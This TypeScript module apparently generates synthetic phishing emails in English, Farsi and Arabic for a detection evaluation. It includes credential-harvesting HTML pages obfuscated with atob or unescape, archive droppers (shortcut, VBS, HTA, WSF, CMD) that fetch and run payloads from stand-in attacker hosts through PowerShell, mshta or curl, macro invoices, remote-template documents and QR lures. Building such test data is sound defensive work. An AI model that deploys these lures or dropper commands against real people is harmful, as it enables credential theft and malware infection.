/** Lures whose payload is an attachment (HTML page, archive, macro document, QR image, PDF): kinds of eval/email/phish.ts. */
import {
  attackerDomain,
  businessDomain,
  freeHostedUrl,
  loginPath,
  lookalikeOf,
  PARTNERS,
  person,
  type Lang,
} from "./actors.js";
import { htmlBody, type Attachment } from "./compose.js";
import {
  macroDoc,
  macroOoxml,
  macroSource,
  pdf,
  qrLikePng,
  remoteTemplateDocx,
  shortcut,
  zipOf,
} from "./files.js";
import { Rng } from "./mime.js";
import { by, freemailSender, orgName, type KindMaker } from "./lure.js";
import { deskNames } from "./kinds-links.js";

// ---------------------------------------------------------------- HTML attachment rebuilding a login page

function loginPageHtml(rng: Rng, email: string): string {
  const collector = rng.pick([
    () => `https://${businessDomain(rng)}/wp-admin/css/${rng.alnum(6).toLowerCase()}/next.php`,
    () => `https://api.telegram.org/bot${rng.int(5e9, 7e9)}:${rng.alnum(35)}/sendMessage`,
    () => `https://${attackerDomain(rng, "auth")}/post.php`,
  ])();
  const page = [
    `<html><head><title>${rng.pick(["Sign in to your account", "Outlook", "Secure Document", "Adobe Document Cloud"])}</title></head><body>`,
    `<div class="box"><h2>${rng.pick(["Verify your identity to view this document", "Session expired - sign in again", "Sign in"])}</h2>`,
    `<form id="f" method="POST" action="${collector.includes("telegram") ? "#" : collector}">`,
    `<input type="email" name="login" value="${email}" readonly>`,
    `<input type="password" name="passwd" placeholder="Password" required>`,
    `<button type="submit">Next</button></form></div>`,
    collector.includes("telegram")
      ? `<script>document.getElementById("f").onsubmit=function(e){e.preventDefault();fetch("${collector}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${rng.int(1e9, 9e9)}",text:document.querySelector("[name=login]").value+" "+document.querySelector("[name=passwd]").value})}).then(function(){location.href="https://${rng.pick(["www.office.com", "mail.google.com", "outlook.live.com"])}"})}</script>`
      : "",
    "</body></html>",
  ].join("\n");
  const style = rng.pick(["plain", "atob", "unescape"]);
  if (style === "plain") return page;
  if (style === "atob")
    return `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><script>document.write(atob("${Buffer.from(page).toString("base64")}"));</script></body></html>`;
  return `<html><script language="javascript">document.write(unescape('${[...Buffer.from(page)].map((b) => "%" + b.toString(16).padStart(2, "0")).join("")}'));</script></html>`;
}

export const htmlAttachment: KindMaker = (c) => {
  const { rng, lang } = c;
  const name = rng.pick([
    `Remittance_Advice_${rng.int(1000, 9999)}.html`,
    `Secure_Message_${rng.alnum(5)}.htm`,
    `Voicemail_${rng.int(10, 59)}sec.html`,
    `Payment_Confirmation.shtml`,
    `Document_${rng.int(100000, 999999)}.html`,
    lang === "fa" ? "سند_محرمانه.html" : lang === "ar" ? "مستند_سري.html" : "Invitation_Letter.html",
  ]);
  const text = by(lang, {
    en: rng.pick([
      "Please see the attached document and confirm receipt.",
      "You have a new secure message. Open the attachment in your browser to read it.",
      "Attached is the payment confirmation you asked for.",
    ]),
    fa: "سند پیوست را ببینید و دریافت آن را تایید کنید. فایل را در مرورگر باز کنید.",
    ar: "يرجى الاطلاع على المستند المرفق وفتحه في المتصفح وتأكيد الاستلام.",
  });
  const kind = rng.pick(["own", "genuine", "freemail"]);
  const p = person(rng, lang);
  const fm = freemailSender(rng, p);
  const dom = kind === "genuine" ? rng.pick(PARTNERS).domain : attackerDomain(rng);
  return {
    draft: {
      from: {
        name:
          kind === "freemail"
            ? p.name
            : rng.pick(["Accounts Payable", "Secure Messaging", "Voice Mail", p.name]),
        addr: kind === "freemail" ? fm.addr : `${p.local}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([
          "Payment confirmation",
          "Secure message for you",
          "New voice message",
          "Document for review",
        ]),
        fa: "سند برای بررسی شما",
        ar: "مستند للمراجعة",
      }),
      text,
      attachments: [
        { filename: name, mime: "text/html", content: Buffer.from(loginPageHtml(rng, c.victim.addr)) },
      ],
      lang,
      sender:
        kind === "freemail"
          ? fm.sender
          : kind === "genuine"
            ? { how: "genuine", domain: dom }
            : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "html-login" },
  };
};

// ---------------------------------------------------------------- archives with scripts or shortcuts

export async function scriptArchive(rng: Rng, lang: Lang): Promise<{ name: string; zip: Buffer }> {
  const base = by(lang, {
    en: rng.pick([
      "Invitation_Letter",
      "Interview_Questions",
      "Passport_Scan",
      "Report_2025",
      "Project_Budget",
      "Photos",
    ]),
    fa: rng.pick(["دعوتنامه", "سوالات_مصاحبه", "گزارش"]),
    ar: rng.pick(["رسالة_الدعوة", "أسئلة_المقابلة", "التقرير"]),
  });
  const stage = `https://${attackerDomain(rng)}/${rng.alnum(8)}`;
  const payload = rng.pick([
    () => ({
      path: `${base}.pdf.lnk`,
      content: shortcut(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        `-w hidden -ep bypass -c "iwr ${stage}/a.ps1 -o $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"`,
      ),
    }),
    () => ({
      path: `${base}.lnk`,
      content: shortcut("C:\\Windows\\System32\\mshta.exe", `${stage}/view.hta`),
    }),
    () => ({
      path: `${base}.js`,
      content: `var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","${stage}",false);x.send();s.Run("cmd /c echo "+x.responseText.length,0);\n`,
    }),
    () => ({
      path: `${base}.vbs`,
      content: `Set o = CreateObject("WScript.Shell")\r\no.Run "powershell -w hidden -c iex(iwr '${stage}')", 0\r\n`,
    }),
    () => ({
      path: `${base}.hta`,
      content: `<html><head><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden iwr ${stage}", 0: self.close</script></head></html>`,
    }),
    () => ({
      path: `${base}.wsf`,
      content: `<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta ${stage}");</script></job>`,
    }),
    () => ({
      path: `${base}.cmd`,
      content: `@echo off\r\ncurl -s -o %TEMP%\\u.exe ${stage}\r\nstart "" %TEMP%\\u.exe\r\n`,
    }),
  ])();
  const entries = [
    payload,
    ...(rng.chance(0.5) ? [{ path: `${base}_cover.pdf`, content: pdf(["Cover page"]) }] : []),
  ];
  let zip = await zipOf(entries);
  if (rng.chance(0.2)) zip = await zipOf([{ path: `${base}.zip`, content: zip }]);
  return { name: `${base}${rng.chance(0.2) ? ".pdf" : ""}.zip`, zip };
}

export const archiveScript: KindMaker = async (c) => {
  const { rng, lang } = c;
  const { name, zip } = await scriptArchive(rng, lang);
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const kind = rng.pick(["freemail", "genuine", "own"]);
  const fm = freemailSender(rng, p);
  const dom =
    kind === "genuine"
      ? rng.pick(PARTNERS).domain
      : attackerDomain(rng, rng.pick(["forum", "media", "office"]));
  const text = by(lang, {
    en: [
      `Dear ${c.victim.first},`,
      rng.pick([
        "As promised, the documents are in the attached archive.",
        "Please find the invitation letter and programme attached.",
        "The questions for the interview are attached; the file is compressed because of its size.",
      ]),
      "",
      p.name,
    ].join("\n"),
    fa: [
      `${c.victim.first} عزیز،`,
      "همان‌طور که قول داده بودم، مدارک در فایل فشرده پیوست است.",
      "",
      p.name,
    ].join("\n"),
    ar: [`عزيزي ${c.victim.first}،`, "كما وعدتك، الوثائق موجودة في الملف المضغوط المرفق.", "", p.name].join(
      "\n",
    ),
  });
  return {
    draft: {
      from: { name: p.name, addr: kind === "freemail" ? fm.addr : `${p.local}@${dom}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Documents as promised", "Invitation letter", "Interview questions"]),
        fa: "مدارک",
        ar: "الوثائق المطلوبة",
      }),
      text,
      attachments: [
        {
          filename: name,
          mime: rng.pick(["application/zip", "application/x-zip-compressed", "application/octet-stream"]),
          content: zip,
        },
      ],
      lang,
      sender:
        kind === "freemail"
          ? fm.sender
          : kind === "genuine"
            ? { how: "genuine", domain: dom }
            : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "archive-script" },
  };
};

// ---------------------------------------------------------------- invoices with macro documents

export const macroInvoice: KindMaker = async (c) => {
  const { rng, lang } = c;
  const n = rng.int(10000, 99999);
  const stage = `https://${businessDomain(rng)}/${rng.pick(["img", "tmp", "files"])}/${rng.alnum(8)}.${rng.pick(["png", "dat", "jpg"])}`;
  const form = rng.pick(["docm", "xlsm", "doc", "template"]);
  const decoy = `Invoice ${n}\nThis document was created in an earlier version of Office.\nTo view its content, click Enable Editing and then Enable Content.`;
  const src = macroSource(rng, stage);
  const file =
    form === "docm"
      ? {
          filename: `Invoice_${n}.docm`,
          mime: "application/vnd.ms-word.document.macroEnabled.12",
          content: await macroOoxml("docm", src, decoy),
          shape: "office-macro" as const,
        }
      : form === "xlsm"
        ? {
            filename: `Payment_${n}.xlsm`,
            mime: "application/vnd.ms-excel.sheet.macroEnabled.12",
            content: await macroOoxml("xlsm", src, decoy),
            shape: "office-macro" as const,
          }
        : form === "doc"
          ? {
              filename: `Invoice_${n}.doc`,
              mime: "application/msword",
              content: macroDoc(src),
              shape: "office-macro" as const,
            }
          : {
              filename: `Invoice_${n}.docx`,
              mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              content: await remoteTemplateDocx(
                `https://${attackerDomain(rng, "office")}/templates/${rng.alnum(6)}.dotm`,
                decoy,
              ),
              shape: "office-remote-template" as const,
            };
  const vendor = businessDomain(rng);
  const compromised = rng.chance(0.4);
  const p = person(rng, "en");
  const text = by(lang, {
    en: [
      rng.pick(["Hello,", "Good morning,", "Dear customer,"]),
      `Please find attached invoice ${n} for the services of last month. Kindly arrange payment by the due date.`,
      "",
      "Best regards,",
      p.name,
      "Accounts Department",
    ].join("\n"),
    fa: [
      "با سلام،",
      `فاکتور شماره ${n} بابت خدمات ماه گذشته پیوست است. لطفا تا موعد مقرر پرداخت کنید.`,
      "",
      "با احترام",
      p.name,
    ].join("\n"),
    ar: [
      "مرحبا،",
      `مرفق الفاتورة رقم ${n} عن خدمات الشهر الماضي، يرجى السداد قبل تاريخ الاستحقاق.`,
      "",
      "مع التحية",
      p.name,
    ].join("\n"),
  });
  const dom = compromised ? vendor : attackerDomain(rng, "invoice");
  return {
    draft: {
      from: {
        name: rng.chance(0.5) ? p.name : "Accounts Receivable",
        addr: `${rng.pick(["accounts", "billing", "invoice", p.local])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([`Invoice ${n}`, `Overdue payment - invoice ${n}`, `RE: Invoice #${n} attached`]),
        fa: `فاکتور ${n}`,
        ar: `فاتورة رقم ${n}`,
      }),
      text,
      attachments: [{ filename: file.filename, mime: file.mime, content: file.content }],
      lang,
      sender: compromised ? { how: "genuine", domain: dom } : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: file.shape },
  };
};

// ---------------------------------------------------------------- QR codes

export const qrCode: KindMaker = async (c) => {
  const { rng, org, lang } = c;
  const png = await qrLikePng(rng);
  const paras = by(lang, {
    en: [
      rng.pick([
        "Your multi-factor authentication must be renewed before the end of the week.",
        "A document is waiting for your signature.",
        "Your mailbox access needs to be re-validated under the new security policy.",
      ]),
      "Scan the QR code below with your phone camera to continue. The code is valid for 24 hours.",
    ],
    fa: [
      "تایید دو مرحله‌ای حساب شما باید تا پایان هفته تمدید شود.",
      "کد QR زیر را با دوربین گوشی اسکن کنید. این کد ۲۴ ساعت اعتبار دارد.",
    ],
    ar: [
      "يجب تجديد المصادقة الثنائية لحسابك قبل نهاية الأسبوع.",
      "امسح رمز QR أدناه بكاميرا هاتفك للمتابعة، الرمز صالح لمدة 24 ساعة.",
    ],
  });
  const inline = rng.chance(0.5);
  const cid = `qr${rng.hex(8)}@mail`;
  const dom = rng.chance(0.5) ? lookalikeOf(org.domain, rng).host : attackerDomain(rng, "mfa");
  const att: Attachment = inline
    ? { filename: "qrcode.png", mime: "image/png", content: png, cid }
    : { filename: rng.pick(["QR.png", "scan_me.png", "MFA_code.png"]), mime: "image/png", content: png };
  return {
    draft: {
      from: { name: rng.pick(deskNames[lang]), addr: `${rng.pick(["security", "it", "noreply"])}@${dom}` },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([
          "Action required: renew your MFA",
          "Document pending signature",
          "Mailbox re-validation",
        ]),
        fa: "تمدید تایید دو مرحله‌ای",
        ar: "تجديد المصادقة الثنائية",
      }),
      ...(inline
        ? { html: htmlBody(lang, paras, { image: cid, footer: orgName(org, lang) }) }
        : { text: paras.join("\n\n") }),
      attachments: [att],
      lang,
      sender: { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "image" },
  };
};

// ---------------------------------------------------------------- PDF with the link inside

export const pdfLure: KindMaker = (c) => {
  const { rng, lang } = c;
  const href = rng.chance(0.5)
    ? freeHostedUrl(rng)
    : `https://${attackerDomain(rng, "docs")}${loginPath(rng, c.victim.addr)}`;
  const title = rng.pick(["Secure document", "Contract for signature", "Grant agreement", "Payment advice"]);
  const file = pdf(
    [title, "This document is protected.", "Click below and sign in with your email to view it."],
    href,
  );
  const dom = rng.chance(0.5) ? rng.pick(PARTNERS).domain : attackerDomain(rng, "sign");
  const genuine = PARTNERS.some((p) => p.domain === dom);
  return {
    draft: {
      from: {
        name: rng.pick(["DocuSign via Secure", "Grants Office", "Finance", person(rng, "en").name]),
        addr: `${rng.pick(["docs", "finance", "grants"])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, { en: `${title}: please review`, fa: "سند برای امضا", ar: "مستند للتوقيع" }),
      text: by(lang, {
        en: "Please review the attached document and sign it at your earliest convenience.",
        fa: "لطفا سند پیوست را بررسی و امضا کنید.",
        ar: "يرجى مراجعة المستند المرفق وتوقيعه.",
      }),
      attachments: [{ filename: `${title.replace(/ /g, "_")}.pdf`, mime: "application/pdf", content: file }],
      lang,
      sender: genuine ? { how: "genuine", domain: dom } : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "pdf-link" },
  };
};
